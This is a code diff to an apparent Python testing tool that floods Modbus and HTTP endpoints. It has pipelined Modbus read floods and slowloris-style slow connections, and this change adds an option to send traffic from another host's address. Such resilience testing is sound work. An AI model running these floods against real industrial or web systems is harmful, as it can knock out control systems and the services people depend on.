@@ -359,11 +359,11 @@ def mb_request(tid, unit=1, fc=3, addr=0, count=125):
     return struct.pack(">HHHBBHH", tid & 0xFFFF, 0, 6, unit, fc, addr, count)
 
 
-def mbflood(target, seconds=6.0, depth=50000, unit=1, max_requests=20000000):
+def mbflood(target, seconds=6.0, depth=50000, unit=1, max_requests=20000000, source=None):
     """One connection, read requests pipelined (at most `depth` unanswered),
     responses drained in a second thread. Non-blocking, so a server that
     stops reading never leaves half a request on the wire. Returns counts."""
-    s = socket.create_connection(target, timeout=3)
+    s = socket.create_connection(target, timeout=3, source_address=(source, 0) if source else None)
     s.setblocking(False)
     st = {"sent": 0, "answered": 0, "exceptions": 0, "answered_bytes": 0, "closed_by_server": False,
           "send_stalls": 0}
@@ -479,7 +479,7 @@ def probe(target, path="/api/status", seconds=6.0, interval=0.25, timeout=3.0):
             "failed": sum(1 for x in out if x[1] != 200)}
 
 
-def slowloris(target, proto="modbus", conns=20, seconds=10.0, interval=0.5):
+def slowloris(target, proto="modbus", conns=20, seconds=10.0, interval=0.5, source=None):
     """`conns` connections, each sending one byte per interval: an endless
     stream of Modbus read requests at that pace (each takes 12 intervals to
     complete), or an HTTP request whose headers never end. Returns when each
@@ -492,7 +492,7 @@ def slowloris(target, proto="modbus", conns=20, seconds=10.0, interval=0.5):
     t0 = time.monotonic()
     for i in range(conns):
         try:
-            s = socket.create_connection(target, timeout=2)
+            s = socket.create_connection(target, timeout=2, source_address=(source, 0) if source else None)
             s.setblocking(False)
             socks.append({"s": s, "t": time.monotonic(), "off": 0, "closed": None, "answered": 0})
         except OSError:
@@ -617,6 +617,7 @@ def main(argv):
     p.add_argument("--seconds", type=float, default=6.0)
     p.add_argument("--depth", type=int, default=50000)
     p.add_argument("--unit", type=int, default=1)
+    p.add_argument("--source", help="local address to connect from (another IT host)")
     p = sub.add_parser("probe", help="HTTP GET latency, repeatedly")
     p.add_argument("--target", required=True)
     p.add_argument("--path", default="/api/status")
@@ -629,6 +630,7 @@ def main(argv):
     p.add_argument("--conns", type=int, default=20)
     p.add_argument("--seconds", type=float, default=10.0)
     p.add_argument("--interval", type=float, default=0.5)
+    p.add_argument("--source", help="local address to connect from (another IT host)")
     p = sub.add_parser("watch", help="sample one moving tag on HTTP and Modbus")
     p.add_argument("--http", help="HTTP HOST:PORT")
     p.add_argument("--modbus", help="Modbus HOST:PORT")
@@ -649,14 +651,14 @@ def main(argv):
         out = {"session": sess.as_dict(),
                **sigflood(sess, parse_target(a.target), a.kind, a.rate, a.seconds)}
     elif a.cmd == "mbflood":
-        out = mbflood(parse_target(a.target), a.seconds, a.depth, a.unit)
+        out = mbflood(parse_target(a.target), a.seconds, a.depth, a.unit, source=a.source)
     elif a.cmd == "probe":
         out = probe(parse_target(a.target), a.path, a.seconds, a.interval, a.timeout)
     elif a.cmd == "watch":
         out = watch(a.http and parse_target(a.http), a.modbus and parse_target(a.modbus), a.tag,
                     a.unit, a.reg, a.seconds, a.interval)
     else:
-        out = slowloris(parse_target(a.target), a.proto, a.conns, a.seconds, a.interval)
+        out = slowloris(parse_target(a.target), a.proto, a.conns, a.seconds, a.interval, a.source)
     print(json.dumps(out))
     return 0
 
